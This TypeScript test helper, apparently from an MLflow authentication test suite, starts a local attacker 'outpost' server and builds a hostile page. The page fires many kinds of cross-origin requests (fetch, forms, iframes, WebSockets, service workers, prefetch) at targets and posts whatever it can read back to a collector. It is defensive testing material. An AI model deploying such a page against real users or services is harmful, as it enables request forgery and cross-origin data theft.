/** A page that tries what a page can have a browser send, and tells what it could read. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { closeAfterwards } from "@mlflow-auth/test/suite";

/** What a page tells once all that it tried has ended, one way or another. */
export interface Told {
  /** All texts that it could read, of answers and of other windows. */
  readonly read: string;
  /** Names of the attempts of which the browser told the page that they succeeded. */
  readonly succeeded: readonly string[];
}

/** Where pages of an attacker come from, and where pages report to. */
export interface Outpost {
  readonly port: number;
  /** What the next page tells. */
  readonly told: Promise<Told>;
}

/** @param page the HTML of its one page; undefined: it has none, and only listens */
export async function startOutpost(page?: string): Promise<Outpost> {
  let tell: (told: Told) => void = () => undefined;
  const told = new Promise<Told>((resolve) => {
    tell = resolve;
  });
  const server = createServer((req, res) => {
    if (req.url === "/told") {
      let text = "";
      req.setEncoding("utf8").on("data", (chunk: string) => {
        text += chunk;
      });
      req.on("end", () => {
        res.end();
        tell(JSON.parse(text) as Told);
      });
    } else if (req.url === "/" && page !== undefined) {
      res.setHeader("content-type", "text/html").end(page);
    } else {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  closeAfterwards(() => {
    server.closeAllConnections();
    server.close();
  });
  return { port: (server.address() as AddressInfo).port, told };
}

/**
 * A page that tries everything at each target, below a path that names the attempt: `TARGET/image`.
 *
 * @param report where it tells what it could do, `http://127.0.0.1:PORT/told`
 */
export function hostilePage(targets: readonly string[], report: string): string {
  return `<!doctype html><body><script>(${tryEverything})(${JSON.stringify(targets)}, ${JSON.stringify(report)})</script>`;
}

/** Runs in the browser: it can use nothing of this file. */
const tryEverything = `async (targets, report) => {
  const read = [], succeeded = [];
  const noted = (name) => (text) => { succeeded.push(name); if (typeof text === "string") read.push(text); };
  const loads = (name, tag, attributes) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => { noted(name)(); try { noted(name)(element.contentDocument.documentElement.outerHTML); } catch {} resolve(); };
    element.onerror = resolve;
    Object.assign(element, attributes);
    document.body.append(element);
  });
  const sends = (name, url, options) => fetch(url, options).then((answer) => answer.text()).then(noted(name), () => undefined);
  const posts = (name, url, type) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = name + Math.random();
    document.body.append(frame);
    frame.onload = () => { try { noted(name)(frame.contentDocument.documentElement.outerHTML); } catch {} resolve(); };
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url, enctype: type, target: frame.name });
    form.innerHTML = "<input name=a value=b>";
    document.body.append(form);
    form.submit();
  });
  const opens = (name, url) => new Promise((resolve) => {
    const other = open(url);
    const look = () => {
      try {
        if (other.location.href === "about:blank" || other.document.readyState !== "complete") return setTimeout(look, 10);
        noted(name)(other.location.href + other.document.documentElement.outerHTML);
      } catch {}
      resolve();
    };
    look();
  });
  const streams = (name, url) => new Promise((resolve) => {
    const source = new EventSource(url);
    source.onopen = () => { noted(name)(); source.close(); resolve(); };
    source.onerror = () => { source.close(); resolve(); };
  });
  const sockets = (name, url) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace("http:", "ws:"));
    socket.onopen = () => { noted(name)(); resolve(); };
    socket.onerror = resolve;
  });
  const ahead = (url) => {
    const script = document.createElement("script");
    script.type = "speculationrules";
    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url] }], prerender: [{ source: "list", urls: [url] }] });
    document.body.append(script);
  };
  await Promise.all(targets.flatMap((target) => {
    const at = (name) => target + "/" + name;
    ahead(at("ahead"));
    navigator.sendBeacon(at("beacon"), "x");
    return [
      loads("image", "img", { src: at("image") }),
      loads("script", "script", { src: at("script") }),
      loads("module", "script", { src: at("module"), type: "module" }),
      loads("style", "link", { href: at("style"), rel: "stylesheet" }),
      loads("prefetch", "link", { href: at("prefetch"), rel: "prefetch", as: "document" }),
      loads("preload", "link", { href: at("preload"), rel: "preload", as: "fetch", crossOrigin: "anonymous" }),
      loads("iframe", "iframe", { src: at("iframe") }),
      loads("object", "object", { data: at("object") }),
      sends("fetch", at("fetch")),
      sends("fetch-no-cors", at("fetch-no-cors"), { mode: "no-cors" }),
      sends("fetch-unseen", at("fetch-unseen"), { referrerPolicy: "no-referrer", headers: { "accept-language": "x" } }),
      sends("fetch-post", at("fetch-post"), { method: "POST", mode: "no-cors", body: "x" }),
      sends("fetch-preflight", at("fetch-preflight"), { method: "DELETE", headers: { "x-a": "b" } }),
      sends("fetch-bearer", at("fetch-bearer"), { headers: { authorization: "Bearer x" } }),
      posts("form", at("form"), "application/x-www-form-urlencoded"),
      posts("form-text", at("form-text"), "text/plain"),
      opens("window", at("window")),
      streams("event-source", at("event-source")),
      sockets("web-socket", at("web-socket")),
      Promise.resolve(navigator.serviceWorker?.register(at("service-worker"), { scope: "/" })).then((one) => one && noted("service-worker")(), () => undefined),
      Promise.resolve(navigator.serviceWorker?.register(at("service-worker-below"))).then((one) => one && noted("service-worker-below")(), () => undefined),
    ];
  }));
  await fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify({ read: read.join("\\n"), succeeded }) });
}`;
